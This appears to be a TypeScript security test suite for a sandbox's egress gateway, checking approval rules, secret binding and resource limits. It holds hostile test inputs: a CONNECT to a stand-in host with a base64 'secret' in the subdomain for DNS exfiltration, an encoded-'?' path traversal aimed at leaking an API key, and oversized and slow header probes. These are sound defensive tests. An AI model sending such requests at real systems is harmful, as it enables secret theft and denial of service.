/**
 * The gateway against what a sandbox can send it on the wire (attack 40, /work's review of the Go
 * gateway; each case failed before its fix): a name under an ask rule is resolved only after the
 * approver allowed it; "allow once" covers one connection, whatever source port the sandbox reuses;
 * a secret bound under a path prefix never goes to a path outside it spelled with an encoded `?`;
 * a record's host is a name's size at most (and a request head 32 KiB); and idle connections holding unfinished 60 KB header
 * lines cannot make the gateway run out of memory.
 */
import { beforeAll, expect, it } from "vitest";
import type { NetworkApprovalRequest } from "../../../src/egress/index.js";
import { getDocker } from "../../../src/sandbox/index.js";
import type { Sandbox } from "../../../src/sandbox/types.js";
import { describeEngine } from "../../helpers/engine.js";
import { run, testTenant } from "../../helpers/sandbox-fixture.js";
import { useEgressSession } from "./session-fixture.js";
import { WIRE_PROBE } from "./wire-probe.js";

const tenant = testTenant("egress-hardening");
const PATH_KEY = "key-PathBound-0123456789";

describeEngine("network egress: the gateway against the wire", () => {
  let sandbox: Sandbox;
  const asked: Array<Omit<NetworkApprovalRequest, "signal">> = [];
  let answer: "allow-once" | "deny" = "deny";
  const session = useEgressSession({
    tenant,
    rules: [
      { host: "allowed.test", ports: [80, 443], decision: "allow" },
      { host: "ask.test", ports: [443], decision: "ask" },
      { host: "*.ask.test", ports: [443], decision: "ask" },
    ],
    files: { "/tmp/probe.py": WIRE_PROBE },
    dns: true,
    network: {
      approve: async ({ signal: _signal, ...request }) => {
        asked.push(request);
        return answer;
      },
      secrets: [
        {
          name: "API_KEY",
          bindings: [{ hosts: ["allowed.test"], headers: ["x-api-key"], pathPrefixes: ["/bytes/"] }],
          value: () => PATH_KEY,
        },
      ],
    },
  });
  const probe = async (...argv: string[]) =>
    (await run(sandbox, { argv: ["python3", "/tmp/probe.py", ...argv] })).stdout.trim();
  beforeAll(() => {
    sandbox = session.sandbox();
  });

  it("resolves a name under an ask rule only after the approver allowed it", async () => {
    answer = "deny";
    const before = asked.length;
    expect(
      await probe("raw", "CONNECT exfil-c2VjcmV0.ask.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"),
    ).toContain("403 Forbidden");
    expect(asked.length - before).toBe(1);
    expect((await session.dns().queries()).map((q) => q.name)).not.toContain("exfil-c2vjcmv0.ask.test");
  });

  it("asks again for a second connection from the same source port after an allow-once", async () => {
    answer = "allow-once";
    const before = asked.length;
    await probe("reuse", "ask.test:443", "41234");
    expect(asked.length - before).toBe(2);
  });

  it("never sends a path-bound secret to a path outside its prefix spelled with an encoded ?", async () => {
    const get = (path: string) =>
      probe(
        "tunnel",
        "allowed.test",
        `GET ${path} HTTP/1.1\\r\\nHost: allowed.test\\r\\nX-Api-Key: {{API_KEY}}\\r\\nConnection: close\\r\\n\\r\\n`,
      );
    expect(await get("/hello")).toContain("403 Forbidden");
    expect(await get("/bytes/%3F/../../hello")).toContain("403 Forbidden");
    expect(await get("/bytes/16")).toContain("200 OK");
    const reached = (await session.bed().hostLog("public", "headers"))
      .split("\n")
      .filter((l) => l.includes(PATH_KEY))
      .map((l) => (JSON.parse(l) as [string])[0]);
    expect(reached).toEqual(["/bytes/16"]);
  });

  it("keeps a record's host to a name's size: a CONNECT naming 30,000 letters (60,000 exceed a head's 32 KiB)", async () => {
    expect(await probe("bighost", "60000")).toBe("HTTP/1.1 431 Request Header Fields Too Large");
    expect(await probe("bighost", "30000")).toBe("HTTP/1.1 403 Forbidden");
    const [record] = await session.recordsWhere((r) => r.domain.startsWith("aaaa"));
    expect(record?.domain).toBe("a".repeat(253));
  });

  it("stays up when idle connections each hold an unfinished 60 KB header line", async () => {
    if (sandbox.info.network?.mode !== "allowlist") throw new Error("not an allowlist sandbox");
    const gateway = getDocker().getContainer(sandbox.info.network.gatewayContainerId);
    await probe("holdfat", "5000", "20", "60000");
    const after = await probe(
      "tunnel",
      "allowed.test",
      "GET /hello HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n",
    );
    const state = (await gateway.inspect()).State;
    expect([state.Running, state.OOMKilled]).toEqual([true, false]);
    expect(after).toContain("200 OK");
  }, 120_000);
});
